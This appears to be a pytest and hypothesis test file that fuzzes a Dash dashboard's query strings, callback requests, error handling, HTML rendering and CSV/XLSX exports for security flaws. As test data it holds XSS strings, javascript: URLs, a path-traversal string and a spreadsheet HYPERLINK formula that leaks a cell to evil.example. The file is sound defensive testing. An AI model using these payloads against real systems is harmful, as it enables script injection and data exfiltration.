"""Hostile requests: any query string, any callback body; a page or a plain 4xx, never a traceback,
never reflected markup; errors logged, not shown; data text shown as text; exports that a
spreadsheet cannot run.

NOTE for the xlsx export (downloads.py): every text cell must go through exports.safe_text; the
formula test below checks /data.xlsx as well as /data.csv.
"""
from __future__ import annotations

import csv
import io
import json
from html.parser import HTMLParser
import logging
from urllib.parse import quote, urlencode

import openpyxl
import pytest
from dash import Input, Output
from dash._utils import split_callback_id
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests import fuzzing

from dashboard.web.app import create_app
from dashboard.model.dataset import dataset_from_frame, load_dataset
from dashboard.model.schema import Source
from dashboard.views.state import ViewState

MARKER = "<script>alert('x1')</script>"
GET_PATHS = ("/", "/data.csv", "/data.xlsx")
IMAGE_PATHS = ("/chart.png", "/chart.svg")  # about 0.7 s each (kaleido): fuzzed with fewer examples
VIEW_PART = "f-year.options"   # the controls callback: what a URL sets every control to


def served_paths(app, paths=GET_PATHS) -> list[str]:
    rules = {r.rule for r in app.server.url_map.iter_rules()}
    return [p for p in paths if p == "/" or p in rules]


def assert_safe(response, marker_sent: bool) -> None:
    body = response.get_data().decode("utf-8", "replace")  # images are bytes
    assert response.status_code < 500, body[:500]
    assert "Traceback" not in body and 'File "' not in body
    if marker_sent:
        assert MARKER not in body and "<script>alert" not in body
    if response.status_code >= 400:
        assert response.mimetype == "text/plain"


# ---- query strings -----------------------------------------------------------------------------

KEYS = st.one_of(st.sampled_from([f for f in ViewState.__dataclass_fields__] + ["country", "scope", "format"]),
                 st.text(max_size=20))
VALUES = st.one_of(st.text(max_size=40), st.just(MARKER), st.just("x" * 20000), st.just("²²²²"),
                   st.just("٢٠٢٣"),
                   st.sampled_from(["2023", "0301", "0", "ukraine", "women", "en", "1", "-1", "9" * 40, "\x00",
                                    "javascript:alert(1)", "../../etc/passwd", "%00", "NaN"]))


def fuzz_query(app, client, paths, pairs, raw, use_raw, data):
    path = data.draw(st.sampled_from(paths))
    if pairs and data.draw(st.booleans()):
        pairs = pairs + [pairs[0]]  # a repeated key
    query = quote(raw, safe="=&;%+") if use_raw else urlencode(pairs)
    r = client.get(path, query_string=query)
    assert_safe(r, marker_sent=MARKER in raw or any(MARKER in v for _, v in pairs))
    if path == "/":
        assert r.status_code == 200  # the page with defaults; the callback shows a note
    elif r.status_code == 404:  # /data.csv for a region code that was not in use in the year asked for
        assert path == "/data.csv" and r.get_data(as_text=True).startswith("Region "), r.get_data(as_text=True)[:200]
    else:
        assert r.status_code in (200, 400)


QUERIES = dict(pairs=st.lists(st.tuples(KEYS, VALUES), max_size=8), raw=st.text(max_size=60), use_raw=st.booleans(),
               data=st.data())
FIXTURES_OK = [HealthCheck.too_slow, HealthCheck.function_scoped_fixture]


@settings(max_examples=fuzzing.REQUESTS, deadline=None, suppress_health_check=FIXTURES_OK)
@given(**QUERIES)
def test_any_query_string_gives_a_page_or_a_plain_400(app, client, pairs, raw, use_raw, data):
    fuzz_query(app, client, served_paths(app), pairs, raw, use_raw, data)


@settings(max_examples=fuzzing.IMAGE_REQUESTS, deadline=None, suppress_health_check=FIXTURES_OK)
@given(**QUERIES)
def test_any_query_string_on_images_gives_an_image_or_a_plain_400(app, client, pairs, raw, use_raw, data):
    paths = served_paths(app, IMAGE_PATHS)
    assert paths, "/chart.png and /chart.svg are served (downloads.py)"
    fuzz_query(app, client, paths, pairs, raw, use_raw, data)


def test_markup_in_a_parameter_is_never_reflected(client):
    for path in ("/", "/data.csv"):
        for key in ("year", "gender", "country", "lang", MARKER):
            r = client.get(path, query_string={key: MARKER})
            assert_safe(r, marker_sent=True)
    r = client.get("/data.csv", query_string={"gender": MARKER})
    assert r.status_code == 400 and "Invalid value for 'gender': \"\\x3cscript\\x3ealert" in r.get_data(as_text=True)


def test_unicode_digits_in_a_year_are_a_400_not_a_crash(client):
    # str.isdigit() accepts '²²²²'; int() does not: this was a 500 before state.py checked isascii().
    for value in ("²²²²", "٢٠٢٣", "２０２３"):
        r = client.get("/data.csv", query_string={"year": value})
        assert r.status_code == 400 and "Invalid value for 'year'" in r.get_data(as_text=True)
    assert client.get("/data.csv", query_string={"slide": "²"}).status_code == 400


# ---- callback requests --------------------------------------------------------------------------

def view_body(app, values: list, changed: list[str] | None = None, part: str = VIEW_PART,
              states: list | None = None) -> dict:
    """A request for the controls callback (what a URL sets the controls to), or for the server callback
    whose outputs name `part`: `values` for its inputs in order, its states None unless given."""
    output = next(k for k, v in app.callback_map.items() if part in k and "callback" in v)
    spec = app.callback_map[output]
    state = spec.get("state", [])
    return {"output": output, "outputs": split_callback_id(output),
            "inputs": [dict(i, value=v) for i, v in zip(spec["inputs"], values)],
            "state": [dict(s, value=v) for s, v in zip(state, states if states is not None else [None] * len(state))],
            "changedPropIds": changed if changed is not None else ["url.search"]}


def texts_body(app, search: str) -> dict:
    """The request for the texts callback (cards, findings, sources, notices) of a view."""
    return view_body(app, [search, None, None], part="source-list.html")


def post(client, body, **kw):
    data = body if isinstance(body, (str, bytes)) else json.dumps(body)
    return client.post("/_dash-update-component", data=data, content_type=kw.pop("content_type", "application/json"),
                       **kw)


def test_a_valid_callback_request_renders(app, client):
    n = len(view_body(app, [])["outputs"])
    inputs = app.callback_map[view_body(app, [])["output"]]["inputs"]
    r = post(client, view_body(app, ["?gender=women"] + [None] * (len(inputs) - 1)))
    assert r.status_code == 200 and n > 10
    out = r.get_json()["response"]
    # The link's filter reaches its control, the others stay at their defaults, and the options say which
    # values have figures.
    assert out["f-gender"]["value"] == "women" and out["f-group"]["value"] == "all" and out["f-region"]["value"] == "0"
    assert out["f-year"]["value"] == "latest"
    assert [o["value"] for o in out["f-gender"]["options"]] == ["all", "men", "women"]
    assert {o["value"]: o["disabled"] for o in out["f-gender"]["options"]}["women"] is False


JSON = st.recursive(st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=30)
                    | st.just(MARKER) | st.just("x" * 5000),
                    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
                    max_leaves=10)
OPTION_VALUES = st.one_of(JSON, st.sampled_from(["latest", "2023", "1899", "0301", "9999", "ukraine", "robots", "women",
                                                 "line", "table", "pie", "", "?year=2040&region=9999", "?" + MARKER,
                                                 "?present=1&deck=year%3D2099|x&slide=9"]))


@settings(max_examples=fuzzing.CALLBACKS, deadline=None, suppress_health_check=FIXTURES_OK)
@given(data=st.data())
def test_callback_with_any_values_answers_without_a_crash(app, client, data):
    # Any of the server's callbacks a page sets off, with anything for its inputs and its states (a client
    # sends both)
    part = data.draw(st.sampled_from([VIEW_PART, "trend-graph.figure", "cards.html", "region-notice.data"]))
    spec = app.callback_map[view_body(app, [], part=part)["output"]]
    n, m = len(spec["inputs"]), len(spec.get("state", []))
    values = data.draw(st.lists(OPTION_VALUES, min_size=n, max_size=n))
    states = data.draw(st.lists(OPTION_VALUES, min_size=m, max_size=m))
    ids = [f"{i['id']}.{i['property']}" for i in spec["inputs"]]
    changed = data.draw(st.lists(st.sampled_from(ids), max_size=2, unique=True))
    r = post(client, view_body(app, values, changed, part=part, states=states))
    assert_safe(r, marker_sent=True)
    assert r.status_code in (200, 204)
    if r.status_code == 200:
        json.loads(r.get_data(as_text=True))


def malformed_bodies(app):
    good = view_body(app, [""] * len(app.callback_map[view_body(app, [])["output"]]["inputs"]))
    wildcard = next(k for k in app.callback_map if k.startswith("{"))
    clientside = next(k for k, v in app.callback_map.items() if "callback" not in v)

    def without(key):
        return {k: v for k, v in good.items() if k != key}

    def changed(**kw):
        return {**good, **kw}

    return {
        "not json": "{output: nope",
        "json array": [good],
        "json string": "\"hello\"",
        "empty object": {},
        "no output": without("output"),
        "no inputs": without("inputs"),
        "no outputs": without("outputs"),
        "unknown output": changed(output="nope.children"),
        "output not a string": changed(output=["x"]),
        "clientside output": changed(output=clientside),
        "inputs not a list": changed(inputs={"a": 1}),
        "too few inputs": changed(inputs=good["inputs"][:-1]),
        "input without id": changed(inputs=[{"property": "search", "value": ""}] + good["inputs"][1:]),
        "input of another component": changed(inputs=[{"id": "nope", "property": "search"}] + good["inputs"][1:]),
        "input as a number": changed(inputs=[5] + good["inputs"][1:]),
        "outputs too short": changed(outputs=good["outputs"][:3]),
        "state given where none is": changed(state=[{"id": "url", "property": "search"}]),
        "changedPropIds not a list": changed(changedPropIds="url.search"),
        "changedPropIds unknown": changed(changedPropIds=["{\"broken json.value"]),
        "changedPropIds unhashable": changed(changedPropIds=[["url.search"]]),
        "wildcard output malformed": {"output": wildcard, "outputs": [{"id": {"type": "i18n"}, "property": "children"}],
                                      "inputs": [{"id": "url", "property": "search", "value": ""}],
                                      "changedPropIds": ["url.search"]},
    }


def test_the_guard_accepts_what_dash_sends_for_duplicate_and_pattern_outputs():
    from dash import ALL, Dash, html

    from dashboard.web import guard
    app = Dash(__name__)
    app.layout = html.Div([html.Div(id="a"), html.Div(id={"type": "t", "key": "k"})])

    @app.callback(Output("a", "children", allow_duplicate=True), Input("a", "title"), prevent_initial_call=True)
    def dup(_):
        return ""

    @app.callback(Output({"type": "t", "key": ALL}, "children"), Input({"type": "t", "key": ALL}, "title"))
    def pattern(_):
        return []

    dup_key = next(k for k in app.callback_map if k.startswith("a.children@"))
    for prop in ("children", dup_key.split(".", 1)[1]):
        assert guard.problem(app.callback_map, {"output": dup_key, "outputs": {"id": "a", "property": prop},
                                                "inputs": [{"id": "a", "property": "title", "value": None}],
                                                "changedPropIds": ["a.title"]}) is None
    pid = {"type": "t", "key": "k"}
    body = {"output": next(k for k in app.callback_map if k.startswith("{")),
            "outputs": [{"id": pid, "property": "children"}],
            "inputs": [[{"id": pid, "property": "title", "value": "x"}]],
            "changedPropIds": ['{"key":"k","type":"t"}.title']}
    assert guard.problem(app.callback_map, body) is None
    body["inputs"] = [[{"id": {"type": "other", "key": "k"}, "property": "title"}]]
    assert guard.problem(app.callback_map, body) == "the inputs do not match the callback"


def test_malformed_callback_requests_get_a_plain_400(app, client):
    for name, body in malformed_bodies(app).items():
        r = post(client, body)
        assert r.status_code == 400, (name, r.status_code, r.get_data(as_text=True)[:300])
        assert_safe(r, marker_sent=False)
        assert r.get_data(as_text=True).startswith("400 Bad Request"), name


def test_wrong_method_and_content_type_are_4xx(client):
    r = client.get("/_dash-update-component")  # GET: not a page (the page is served at / only), no callback runs
    assert_safe(r, False)
    assert r.status_code == 404 and r.mimetype == "text/plain" and "_dash-config" not in r.get_data(as_text=True)
    r = client.put("/_dash-update-component", data="{}")
    assert r.status_code == 405 and r.mimetype == "text/plain"
    assert r.get_data(as_text=True).startswith("405 Method Not Allowed")
    r = post(client, "output=x", content_type="application/x-www-form-urlencoded")
    assert r.status_code == 400 and r.mimetype == "text/plain"
    assert r.get_data(as_text=True) == "400 Bad Request: the body is not a JSON object.\n"


def test_request_bodies_over_the_limit_get_413(tmp_path):
    app = create_app(settings={"max_request_bytes": 200_000, "max_upload_bytes": 50_000})
    client = app.server.test_client()
    body = view_body(app, ["x" * 300_000])
    r = post(client, body)
    assert r.status_code == 413 and r.mimetype == "text/plain"
    assert "larger than 200000 bytes" in r.get_data(as_text=True)
    config = create_app().server.config
    assert config["MAX_CONTENT_LENGTH"] == 3 * 2**20 and config["MAX_UPLOAD_BYTES"] == 2 * 2**20  # the defaults


def test_a_view_request_carrying_the_largest_upload_fits_under_the_limit():
    """A user's own file rides base64-encoded in every view request: the limit must leave room for it."""
    import base64
    app = create_app()
    body = view_body(app, [""] * len(app.callback_map[view_body(app, [])["output"]]["inputs"]))
    upload = b"x" * app.server.config["MAX_UPLOAD_BYTES"]
    contents = "data:text/csv;base64," + base64.b64encode(upload).decode()
    body["inputs"][-1]["value"] = {"name": "big.csv", "contents": contents}
    assert len(json.dumps(body)) < app.server.config["MAX_CONTENT_LENGTH"]
    r = post(app.server.test_client(), body)
    assert r.status_code == 200  # not 413; the file itself is refused by the upload's own checks


# ---- errors are logged, not shown ---------------------------------------------------------------

def crashing_app():
    app = create_app()

    @app.server.route("/boom")
    def boom():
        raise RuntimeError("secret detail /etc/passwd")

    @app.callback(Output("lang-sink", "title"), Input("url", "hash"))
    def crash(_):
        raise ValueError("secret detail in a callback")

    return app


@pytest.mark.parametrize("flask_debug", ["", "1"])
def test_an_exception_is_logged_and_answered_without_details(records, monkeypatch, flask_debug):
    if flask_debug:
        monkeypatch.setenv("FLASK_DEBUG", flask_debug)  # must not turn on the debugger in production
    app = crashing_app()
    assert app.server.debug is False
    client = app.server.test_client()
    r = client.get("/boom")
    body = r.get_data(as_text=True)
    assert r.status_code == 500 and r.mimetype == "text/plain"
    assert body == "500 Internal Server Error: something went wrong on the server; it has been logged.\n"
    r = post(client, {"output": "lang-sink.title", "outputs": {"id": "lang-sink", "property": "title"},
                      "inputs": [{"id": "url", "property": "hash", "value": ""}], "changedPropIds": ["url.hash"]})
    assert r.status_code == 500 and "secret" not in r.get_data(as_text=True)
    logged = [x for x in records if x.levelno == logging.ERROR]
    assert len(logged) == 2 and all(x.exc_info for x in logged)
    assert "secret detail /etc/passwd" in str(logged[0].exc_info[1])


# ---- text from data files is text ---------------------------------------------------------------

def walk(node):
    """Every component (as Dash serialises it) in a callback response."""
    if isinstance(node, dict):
        if "type" in node and "props" in node:
            yield node
        for v in node.values():
            yield from walk(v)
    elif isinstance(node, list):
        for v in node:
            yield from walk(v)


def test_source_titles_and_urls_from_data_render_as_text_never_links_to_javascript(app, client):
    store = app.server.config["DATA_STORE"]
    good = store.dataset
    ds = load_dataset()
    hostile = "<img src=x onerror=alert(1)><script>alert(2)</script>"
    for sid, src in list(ds.sources.items()):
        ds.sources[sid] = Source(sid, publisher="<b>Publisher</b>", title=hostile, date="2023",
                                 url=" javascript:alert(3)" if len(sid) % 2 else "JavaScript:alert(3)")
    store.swap(ds)
    try:
        response = {}
        for body in (texts_body(app, ""), view_body(app, ["", None], part="trend-graph.figure")):
            r = post(client, body)
            assert r.status_code == 200
            response.update(r.get_json()["response"])
    finally:
        store.swap(good)
    components = list(walk(response))
    assert not any(c["type"] in ("Markdown", "Iframe") for c in components)
    assert not any("dangerously_allow_html" in c["props"] for c in components)
    hrefs = [str(c["props"].get("href", "")) for c in components]
    assert not any("javascript" in h.lower() for h in hrefs)
    # Server-rendered fragments (fragments.py): parse them as a browser would.
    fragments = {cid: props["html"] for cid, props in response.items() if isinstance(props.get("html"), str)}
    assert "source-list" in fragments
    for cid, markup in fragments.items():
        parsed = ParsedHtml(markup)
        assert not parsed.tags & {"script", "img", "b", "iframe"}, (cid, parsed.tags)
        assert not any(name.startswith("on") for name, _ in parsed.attrs), cid
        assert not any(name == "href" and "javascript" in (v or "").lower() for name, v in parsed.attrs), cid
    sources = ParsedHtml(fragments["source-list"])
    assert hostile in sources.text and "<b>Publisher</b>" in sources.text  # shown as text, never as markup
    assert not any(name == "href" for name, _ in sources.attrs)  # no safe URL, so no link


class ParsedHtml(HTMLParser):
    def __init__(self, markup: str):
        super().__init__(convert_charrefs=True)
        self.tags, self.attrs, self.text = set(), [], ""
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attrs += attrs

    def handle_data(self, data):
        self.text += data


def test_data_csv_neutralises_formulas_in_every_text_cell(app, client):
    store = app.server.config["DATA_STORE"]
    good = store.dataset
    cells = good.cells.astype({"source": str}).copy()
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the source")'
    cells["source"] = evil
    cells = cells.drop_duplicates(["year", "region", "group", "gender", "education", "age", "country", "measure"])
    store.swap(dataset_from_frame(cells, good.measures, good.sources, origin="user", name="upload.csv"))
    try:
        r = client.get("/data.csv", query_string={"year": "2023"})
        xlsx = client.get("/data.xlsx", query_string={"year": "2023"})
    finally:
        store.swap(good)
    assert xlsx.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(xlsx.get_data()))
    texts = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert "'" + evil in texts
    assert not [t for t in texts if t[:1] in ("=", "+", "-", "@")]
    assert not [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.get_data(as_text=True))))
    header, rows = rows[0], rows[1:]
    assert rows and all(row[header.index("source")] == "'" + evil for row in rows)
    for row in rows:
        for name, cell in zip(header, row):
            if name != "value":
                assert not cell[:1] in ("=", "+", "-", "@", "\t", "\r"), (name, cell)
            else:
                float(cell)
